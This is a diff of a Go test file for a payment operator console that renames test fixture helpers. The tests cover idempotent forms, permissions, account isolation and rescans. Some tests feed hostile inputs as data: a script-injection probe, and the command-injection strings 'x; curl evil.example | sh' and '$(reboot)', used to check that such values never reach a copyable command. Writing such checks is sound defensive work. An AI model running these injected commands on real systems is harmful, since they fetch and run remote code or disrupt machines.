@@ -23,7 +23,7 @@ import (
 
 // A withdrawal is rejected once, however often the form is sent, and the act is recorded with it.
 func TestAFormActsOnce(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		w := o.waiting()
 		token := o.token()
 		for range 2 {
@@ -44,7 +44,7 @@ func TestAFormActsOnce(t *testing.T) {
 
 // Anybody who lacks a verb, or is held to other accounts, changes nothing, and the answer names the verb.
 func TestAnActWithoutTheRight(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		w := o.waiting()
 		me := o.here
 		o.here.Roles = []operator.Role{operator.Admin}
@@ -62,7 +62,7 @@ func TestAnActWithoutTheRight(t *testing.T) {
 // Anybody who is held to some accounts learns of no object of another account that it is there: it looks like an
 // unknown one, whatever its state.
 func TestAnActOnAnotherAccount(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		ctx := context.Background()
 		shop := o.OneChain.Accounts[0]
 		waiting, rejected := o.waiting(), o.waiting()
@@ -96,7 +96,7 @@ func TestAnActOnAnotherAccount(t *testing.T) {
 
 // Each act does what its command does.
 func TestWhatOnePersonDoes(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		ctx := context.Background()
 		shop := o.OneChain.Accounts[0]
 		w := o.waiting()
@@ -158,7 +158,7 @@ func firstOf(errs ...error) error {
 // Blocks are searched again, at most so many at once; the act is recorded before, and the form that is sent again
 // searches again as one act: what is known is left as it is.
 func TestBlocksAreSearchedAgain(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		var searched []string
 		var failed error
 		o.console.Acts.Rescan = func(_ context.Context, id bursar.ChainID, tx string, from, to uint64) (int, error) {
@@ -221,7 +221,7 @@ func TestEveryActIsDocumented(t *testing.T) {
 		t.Fatal(err)
 	}
 	doc := strings.Join(strings.Fields(string(text)), " ")
-	for _, d := range newOffice(t, storetest.Open(t, storetest.Reused(t))).console.deeds() {
+	for _, d := range newFixture(t, storetest.Open(t, storetest.Reused(t))).console.deeds() {
 		if !strings.Contains(doc, "`"+d.name+"`") || !strings.Contains(doc, "`"+string(d.verb)+"`") ||
 			!strings.Contains(doc, d.twin) {
 			t.Errorf("the document lacks `%s`, its right `%s` or its command %q, want all", d.name, d.verb, d.twin)
@@ -231,7 +231,7 @@ func TestEveryActIsDocumented(t *testing.T) {
 
 // What is wrong with a form stands beside it, and nothing was done.
 func TestAFormThatIsRefused(t *testing.T) {
-	eachOffice(t, func(o *office) {
+	eachFixture(t, func(o *fixture) {
 		w := o.waiting().ID.String()
 		for what, c := range map[string]struct {
 			name   string
@@ -261,7 +261,7 @@ func TestAFormThatIsRefused(t *testing.T) {
 // Every form can be read by who may do the act, says what will happen, and changes nothing.
 func TestEveryFormSaysWhatWillHappen(t *testing.T) {
 	t.Parallel()
-	o := newOffice(t, storetest.Open(t, storetest.Reused(t)))
+	o := newFixture(t, storetest.Open(t, storetest.Reused(t)))
 	for _, d := range o.console.deeds() {
 		w := got(t, o.console, base+"/do/"+d.name+"?object=%22%3E%3Cscript%3E")
 		o.answers(d.name, w, http.StatusOK, d.title, d.button, `name="token"`)
@@ -280,7 +280,7 @@ func TestEveryFormSaysWhatWillHappen(t *testing.T) {
 // A link to a form names the object: what a shell would run never stands in the command that is there to be copied.
 func TestALinkPutsNothingIntoACommand(t *testing.T) {
 	t.Parallel()
-	o := newOffice(t, storetest.Open(t, storetest.Reused(t)))
+	o := newFixture(t, storetest.Open(t, storetest.Reused(t)))
 	for object, want := range map[string]bool{o.token(): true, "x; curl evil.example | sh": false, "$(reboot)": false} {
 		r := httptest.NewRequest(http.MethodGet, base+"/do/withdrawal.cancel?object="+url.QueryEscape(object), nil)
 		w := httptest.NewRecorder()
